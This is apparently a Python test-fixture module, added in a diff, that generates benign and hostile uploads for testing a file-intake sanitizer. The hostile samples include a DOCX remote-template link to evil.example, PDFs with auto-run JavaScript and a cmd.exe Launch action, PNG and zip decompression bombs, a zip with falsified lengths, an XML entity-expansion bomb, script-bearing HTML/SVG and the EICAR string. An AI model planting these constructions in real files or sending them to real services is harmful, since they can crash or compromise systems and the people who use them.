@@ -1,0 +1,163 @@
+"""Files as citizens and as attackers send them, made here so that each one's point can be read."""
+
+import io
+import struct
+import zipfile
+import zlib
+
+import openpyxl
+import pikepdf
+import pillow_heif
+from PIL import Image
+
+GPS = {1: "N", 2: (43.0, 14.0, 0.0), 3: "E", 4: (76.0, 57.0, 0.0)}
+DOCX = {
+    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="xml" ContentType="application/xml"/></Types>',
+    "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>',
+    "word/document.xml": '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+    "<w:body><w:p><w:r><w:t>Өтініш</w:t></w:r></w:p></w:body></w:document>",
+    "docProps/core.xml": "<coreProperties><creator>Sergei Ivanov</creator></coreProperties>",
+}
+TEMPLATE = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
+    '<Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
+    'Target="https://adilet.zan.kz" TargetMode="External"/></Relationships>'
+)
+
+
+def picture(kind: str = "JPEG", size=(64, 48), *, gps: bool = True, turn: int = 1) -> bytes:
+    pillow_heif.register_heif_opener()
+    image = Image.new("RGB", size, "#0b5a8a")
+    exif = image.getexif()
+    exif[0x010F] = "Qazaqphone"
+    exif[0x0112] = turn
+    if gps:
+        exif.get_ifd(0x8825).update(GPS)
+    out = io.BytesIO()
+    image.save(out, kind, exif=exif)
+    return out.getvalue()
+
+
+def packed(parts: dict[str, str | bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in parts.items():
+            archive.writestr(name, content)
+    return out.getvalue()
+
+
+def docx(**more: str | bytes) -> bytes:
+    """A Word file; `more` adds or replaces parts (name with / as __)."""
+    return packed({**DOCX, **{name.replace("__", "/"): part for name, part in more.items()}})
+
+
+def xlsx() -> bytes:
+    book = openpyxl.Workbook()
+    book.active["A1"] = "Су есептегіш"
+    book.properties.creator = "Sergei Ivanov"
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def pdf(change=None, **save) -> bytes:
+    document = pikepdf.new()
+    document.add_blank_page()
+    document.docinfo["/Author"] = "Sergei Ivanov"
+    if change:
+        change(document)
+    out = io.BytesIO()
+    document.save(out, **save)
+    return out.getvalue()
+
+
+def with_script(document) -> None:
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+    document.Root.OpenAction = script
+    document.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(script)]))
+    )
+    document.pages[0].AA = pikepdf.Dictionary(O=script)
+
+
+def with_attachment(document) -> None:
+    document.attachments["virus.exe"] = b"MZ" + b"\0" * 100
+
+
+def with_launch(document) -> None:
+    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
+    note = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act
+    )
+    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
+
+
+def with_link(document) -> None:
+    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://adilet.zan.kz")
+    note = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act
+    )
+    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
+
+
+def locked_pdf() -> bytes:
+    return pdf(encryption=pikepdf.Encryption(user="secret", owner="secret"))
+
+
+def locked_office() -> bytes:
+    return (
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le")
+    )
+
+
+def png_bomb(side: int = 30_000) -> bytes:
+    """A picture of 900 million pixels in a few kilobytes."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (
+            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+        )
+
+    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"") + chunk(b"IEND", b"")
+
+
+def zip_bomb() -> bytes:
+    """One part of 400 megabytes of zeros."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, part in DOCX.items():
+            archive.writestr(name, part)
+        with archive.open("word/media/zeros.bin", "w") as part:
+            for _n in range(400):
+                part.write(b"\0" * 1024 * 1024)
+    return out.getvalue()
+
+
+def many_parts() -> bytes:
+    return packed({**DOCX, **{f"word/{n}.xml": "" for n in range(5_000)}})
+
+
+def lying_zip() -> bytes:
+    """A part that says it is one byte long and is not."""
+    data = bytearray(docx())
+    name = b"word/document.xml"
+    for sign, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
+        start = -1
+        while (start := data.find(sign, start + 1)) >= 0:
+            length = 46 if sign == b"PK\x01\x02" else 30
+            if data[start + length : start + length + len(name)] == name:
+                data[start + offset : start + offset + 4] = struct.pack("<I", 1)
+    return bytes(data)
+
+
+LAUGHS = (
+    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+    "<w:document>&b;</w:document>"
+)
+PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
